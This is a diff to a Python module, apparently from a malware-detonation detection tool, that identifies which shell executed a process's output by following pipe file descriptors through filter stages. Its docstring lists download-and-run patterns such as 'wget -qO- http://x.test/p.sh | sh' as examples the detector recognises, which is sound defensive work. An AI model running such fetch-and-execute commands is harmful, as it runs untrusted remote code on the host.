@@ -1,4 +1,10 @@
-"""Which shell ran a process's output, seen from process relations only (pipes are not traced).
+"""Which shell ran a process's output.
+
+Exactly, when the trace shows each exec's fds 0/1 ("pipe:[4711]" in the writer's stdout and
+the reader's stdin): the shell reading the producer's pipe as its program, through filter
+stages (gunzip, tr …). A producer writing to a file, a socket or the container's log fed no
+shell. A pipe nobody reads as stdin is a `$( … )` or `<( … )`, read by a shell on another fd:
+that, and traces recorded before fds were shown, are inferred from process relations:
 
 wget -qO- http://x.test/p.sh | sh       parent forks wget, then sh: siblings, sh reads stdin
 (curl … || wget …) | sh                 the downloader sits in a subshell sibling of sh
@@ -21,6 +27,7 @@ from detonate.detect.correlations.run_index import (
 
 PIPELINE_SECONDS = 2.0  # stages of one pipeline are forked back to back
 SUBSHELL_LEVELS = 3
+FILTER_STAGES = 4  # programs between the producer and the shell: curl | gunzip | tr | sh
 # Shell options that take a value: `bash -o pipefail script`.
 OPTIONS_WITH_VALUE = frozenset({"-o", "+o", "-O", "+O", "--rcfile", "--init-file"})
 FD_SCRIPT = re.compile(r"^/(?:dev/fd/\d+|proc/self/fd/\d+|dev/stdin)$")
@@ -86,13 +93,52 @@ def _is_c_flag(arg: str) -> bool:
 
 def consumers(index: RunIndex, producer: int) -> list[Consumer]:
     """Shells that ran what `producer` wrote to its standard output."""
+    proc = index.procs.get(producer)
+    if proc is None or not proc.stdout:
+        return _inferred(index, producer, siblings=True)  # a trace without fds
+    if not proc.stdout.startswith("pipe:"):
+        return []  # a file, a socket, /dev/null, the container's log: no shell read it
+    readers = _pipe_readers(index, proc.stdout, producer)
+    if readers or index.pipe_readers.get(proc.stdout):
+        return readers  # read as stdin: by a shell (through filters), or by other programs
+    return _inferred(index, producer, siblings=False)
+
+
+def _pipe_readers(index: RunIndex, pipe: str, producer: int) -> list[Consumer]:
+    """Shells whose program text came from `pipe`, directly or through filter stages."""
+    found: list[Consumer] = []
+    todo: list[tuple[str, tuple[int, ...]]] = [(pipe, ())]
+    seen = {pipe}
+    while todo:
+        current, via = todo.pop(0)
+        for pid in index.pipe_readers.get(current, ()):
+            reader = index.procs[pid]
+            if pid == producer or pid in via:
+                continue
+            if reads_stdin(reader):
+                found.append(Consumer(pid, "pipe", via))
+            elif (
+                not runs_shell_code(reader)
+                and reader.stdout.startswith("pipe:")
+                and reader.stdout not in seen
+                and len(via) < FILTER_STAGES
+            ):
+                seen.add(reader.stdout)
+                todo.append((reader.stdout, (*via, pid)))
+    return found
+
+
+def _inferred(index: RunIndex, producer: int, siblings: bool) -> list[Consumer]:
+    """Consumers from process relations: pipeline siblings forked after the producer (only
+    when the trace has no fds), `<( … )`, `$( … )`."""
     found: list[Consumer] = []
     level = producer
     for _ in range(SUBSHELL_LEVELS):
         proc = index.procs.get(level)
         if proc is None or not proc.ppid:
             break
-        found.extend(_pipe_siblings(index, proc))
+        if siblings:
+            found.extend(_pipe_siblings(index, proc))
         parent = index.procs.get(proc.ppid)
         fd_script = parent is not None and any(FD_SCRIPT.match(a) for a in parent.argv[1:])
         if parent is not None and fd_script and reads_stdin(parent):
